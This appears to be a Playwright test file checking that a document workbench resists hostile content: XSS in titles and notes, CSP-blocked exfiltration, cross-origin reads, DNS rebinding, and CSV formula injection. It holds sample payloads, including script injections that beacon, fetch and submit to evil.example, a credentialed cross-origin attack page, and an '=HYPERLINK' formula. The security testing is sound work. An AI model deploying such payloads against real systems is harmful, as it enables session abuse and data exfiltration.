"""Documents and pages that try to take the workbench over, in a real browser. None succeeds."""

import http.server
import threading
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Dialog, Page, expect
from typing_extensions import override

from tests.browser import leak
from tests.browser.window import Window, watched
from tests.served import Running

pytestmark = pytest.mark.allow_hosts(["127.0.0.1", "::1"])


@pytest.fixture
def unmoved(window: Window) -> Iterator[Window]:
    """A window in which nothing of a document may ever run."""
    yield from _unmoved(window)


@pytest.fixture
def unwritten(writer: Window) -> Iterator[Window]:
    """A window in which nothing that people write may ever run."""
    yield from _unmoved(writer)


def _unmoved(window: Window) -> Iterator[Window]:
    asked: list[str] = []

    def dismissed(dialog: Dialog) -> None:
        asked.append(dialog.message)
        dialog.dismiss()

    window.page.on("dialog", dismissed)
    yield window
    assert asked == []
    assert window.page.title() != "taken over"
    assert all(url.startswith(window.home) for url in window.asked)


def _hostile_hits(window: Window) -> int:
    window.search(leak.HOSTILE_WORD)
    expect(window.page.locator("article").first).to_be_visible()
    return window.page.locator("article").count()


def test_a_script_in_a_text_a_name_a_title_or_a_subject_is_shown_as_text(unmoved: Window) -> None:
    page = unmoved.page
    for hit in range(_hostile_hits(unmoved)):
        _hostile_hits(unmoved)
        page.locator("article").nth(hit).locator("a.name").click()
        expect(page.locator(".pane").first).to_be_visible()
        unmoved.press("t")
        expect(page.get_by_role("main")).to_contain_text(leak.HOSTILE_WORD)
        expect(page.get_by_role("main")).to_contain_text("<script>")
        unmoved.press("t")

    assert page.locator("main script, main iframe, main object, main svg[onload]").count() == 0
    assert page.locator("main img:not([src^='/api/'])").count() == 0


def test_a_name_that_is_markup_stands_in_the_list_as_it_is(unmoved: Window) -> None:
    unmoved.press("g", "d")

    expect(unmoved.page.get_by_text("<img src=x onerror=alert(1)>").first).to_be_visible()
    assert "\u202e" not in unmoved.page.locator("body").inner_text()


def test_a_link_of_a_document_is_no_link_of_the_page(unmoved: Window) -> None:
    assert _hostile_hits(unmoved) > 0
    unmoved.press("Enter")
    expect(unmoved.page.locator(".pane").first).to_be_visible()

    links = unmoved.page.locator("a").evaluate_all("all => all.map(one => one.href)")

    assert links
    assert all(str(link).startswith(unmoved.home) for link in links)


def test_a_walk_through_every_view_asks_nobody_but_the_server(
    unmoved: Window, workbench: Running
) -> None:
    """The browser itself is asked, through its own protocol, of every connection that it makes."""
    session = unmoved.page.context.new_cdp_session(unmoved.page)
    session.send("Network.enable")
    seen: list[str] = []
    session.on("Network.requestWillBeSent", lambda event: seen.append(event["request"]["url"]))
    session.on("Network.webSocketCreated", lambda event: seen.append(event["url"]))
    session.on("Network.webTransportCreated", lambda event: seen.append(event["url"]))

    for room in "osdamvebtulchnr":
        unmoved.press("g", room)
        expect(unmoved.page.get_by_role("main")).to_be_visible()
    _hostile_hits(unmoved)
    unmoved.press(" ", "Enter", "]", "t", "?", "Escape")
    expect(unmoved.page.locator(".pane").first).to_be_visible()

    assert len(seen) > 10
    assert [url for url in seen if not url.startswith((workbench.home, "data:"))] == []


def test_a_script_that_got_in_could_still_do_nothing(window: Window) -> None:
    """Were a text ever taken for markup, the policy would stop it."""
    page = window.page
    expect(page).to_have_title("Overview · leak · Stemma")
    window.means("Content Security Policy")
    window.means("evil.example")
    page.evaluate(
        """() => {
            const script = document.createElement("script");
            script.textContent = "document.title = 'taken over'";
            document.body.append(script);
            const picture = new Image();
            picture.src = "http://evil.example/seen.png";
            document.body.append(picture);
            const frame = document.createElement("iframe");
            frame.src = "http://evil.example/";
            document.body.append(frame);
            document.body.insertAdjacentHTML("beforeend", "<b onclick='document.title=1'></b>");
            document.body.lastChild.click();
            fetch("http://evil.example/").catch(() => undefined);
            navigator.sendBeacon("http://evil.example/", "words");
            const form = document.createElement("form");
            form.action = "http://evil.example/";
            document.body.append(form);
            form.submit();
        }"""
    )

    assert page.evaluate("[document.title, location.hostname]") == [
        "Overview · leak · Stemma",
        window.home.removeprefix("http://").partition(":")[0],
    ]
    refused = [one for one in window.wrong if "violates the following" in one]
    assert len(refused) >= 6, window.wrong


EVIL = """<!doctype html><title>another site</title><script>
const told = [];
const home = %r;
async function all() {
  try { await fetch(home + "api/case", {mode: "cors", credentials: "include"});
        told.push("read"); } catch { told.push("not read"); }
  const blind = await fetch(home + "api/case", {mode: "no-cors", credentials: "include"})
    .then(a => a.type, () => "stopped");
  told.push(blind);
  try { await fetch(home + "api/notes", {method: "POST", mode: "cors", credentials: "include",
        headers: {"content-type": "application/json"}, body: "{}"});
        told.push("written"); } catch { told.push("not written"); }
  const image = new Image();
  const drawn = await new Promise(done => {
    image.onload = () => done("drawn"); image.onerror = () => done("not drawn");
    image.src = home + "api/documents/" + %r + "/pages/1/picture"; });
  told.push(drawn);
  const frame = document.createElement("iframe");
  frame.src = home; document.body.append(frame);
  await new Promise(done => { frame.onload = done; frame.onerror = done; setTimeout(done, 3000); });
  let inside = "closed";
  try { inside = frame.contentDocument === null ? "closed" : "open"; } catch { inside = "closed"; }
  told.push(inside);
  const script = await new Promise(done => {
    const one = document.createElement("script");
    one.onload = () => done("run"); one.onerror = () => done("not run");
    one.src = home + "api/case"; document.head.append(one); });
  told.push(script);
  document.title = told.join(", ");
}
all();
</script><body></body>"""


@pytest.fixture
def elsewhere(workbench: Running) -> Iterator[str]:
    """A page on another port of this machine, which asks the workbench for all it has."""

    class Evil(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            body = (EVIL % (workbench.home, "0" * 64)).encode()
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(body)

        @override
        def log_message(self, format: str, *args: object) -> None:
            """Say nothing."""

    with http.server.ThreadingHTTPServer(("127.0.0.1", 0), Evil) as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield f":{server.server_address[1]}/"
        server.shutdown()
        thread.join()


@pytest.mark.parametrize("host", ["127.0.0.1", "evil.localhost"])
def test_another_page_reads_writes_draws_and_frames_nothing(
    context: BrowserContext, elsewhere: str, host: str
) -> None:
    """The browser holds a good cookie all the while."""
    page = context.new_page()
    page.goto(f"http://{host}{elsewhere}")

    expect(page).to_have_title(
        "not read, stopped, not written, not drawn, closed, not run", timeout=60_000
    )


def test_a_window_that_another_page_opens_cannot_be_reached(
    context: BrowserContext, elsewhere: str, workbench: Running
) -> None:
    page = context.new_page()
    page.goto(f"http://127.0.0.1{elsewhere}")

    opened = page.evaluate(
        """async home => {
            const other = window.open(home);
            await new Promise(done => setTimeout(done, 1500));
            try { return other.closed ? "cut" : String(other.document.title); }
            catch { return "cut"; }
        }""",
        workbench.home,
    )

    assert opened == "cut"


def test_a_foreign_name_for_this_machine_is_refused(chromium: Browser, workbench: Running) -> None:
    """What DNS rebinding comes to: the browser believes it talks to evil.example."""
    context = chromium.new_context()
    page = context.new_page()
    seen = watched(page, workbench.home)

    page.goto(f"http://rebound.localhost:{workbench.port}/")

    expect(page.get_by_text("is not known under this name")).to_be_visible()
    assert "leak" not in page.content()
    assert seen.wrong
    context.close()


def test_no_script_can_read_the_cookie(page: Page) -> None:
    assert page.evaluate("document.cookie") == ""


FORMULA = "=HYPERLINK(`http://evil.example/`)"


def _hostile_page(writer: Window) -> None:
    """Open a page that has a picture: a PDF whose text holds a script."""
    writer.go(f"/search?q={leak.HOSTILE_WORD}&type=application%2Fpdf")
    expect(writer.page.locator("article.on")).to_be_visible()
    writer.press("Enter")
    expect(writer.page.locator(".sheet .bx.now").first).to_be_in_viewport()


def test_what_people_write_is_shown_as_text_wherever_it_stands(
    writer: Window, unwritten: Window
) -> None:
    """A note, a label and a translation that hold scripts and formulas."""
    page, script = writer.page, leak.SCRIPT
    assert unwritten is writer
    _hostile_page(writer)
    page.get_by_role("button", name="Add", exact=True).first.click()
    page.get_by_label("Language").fill("en")
    page.get_by_label("Made by").fill(script)
    page.get_by_label("Text", exact=True).fill(f"quillwort {leak.PICTURE}{script}")
    page.get_by_role("button", name="Keep the translation").click()
    expect(page.get_by_text("made by <script>")).to_be_visible()
    writer.press("a")
    page.get_by_label("What is to be noted").fill(f"{FORMULA} {leak.PICTURE}{script}")
    page.get_by_label("Add a label").fill(script)
    writer.press("Enter", "Control+Enter")
    expect(page.locator(".notes > ul > li")).to_contain_text("<script>")
    writer.press("g", "n")
    expect(page.locator("article")).to_contain_text("<img src=")
    table = writer.saves(page.get_by_role("link", name="CSV of all 1")).decode()
    assert f"'{FORMULA}" in table
    assert f",{FORMULA}" not in table
    writer.search("quillwort")
    expect(page.locator("article")).to_contain_text("<script>")
    writer.go("/notes/decisions")
    expect(page.locator("main tbody tr").first).to_be_visible()

    assert page.locator("main script, main iframe, main img:not([src^='/api/'])").count() == 0


def test_the_name_of_a_search_that_is_a_script_is_a_text(writer: Window, unwritten: Window) -> None:
    page = writer.page
    assert unwritten is writer
    writer.search("договор")
    page.get_by_role("button", name="Save this search").click()
    page.get_by_label("Name of the search").fill(f"{FORMULA}{leak.SCRIPT}")
    writer.press("Enter")
    expect(page.get_by_text("Saved as")).to_contain_text("<script>")
    writer.go("/search")
    expect(page.locator(".saved")).to_contain_text("<script>")

    assert page.locator("main script").count() == 0


def test_a_correction_that_is_a_script_is_a_text(writer: Window, unwritten: Window) -> None:
    assert unwritten is writer
    _hostile_page(writer)
    writer.press("e")
    line = writer.page.get_by_role("region", name="Correct a line").get_by_role("textbox")
    line.fill(f"quillwort {leak.PICTURE}{leak.SCRIPT}")
    writer.press("Enter")
    expect(line).to_have_count(0)

    writer.open("quillwort")
    writer.press("t")

    expect(writer.page.get_by_role("main")).to_contain_text("<script>document.title")
    assert writer.page.locator("main script, main img:not([src^='/api/'])").count() == 0
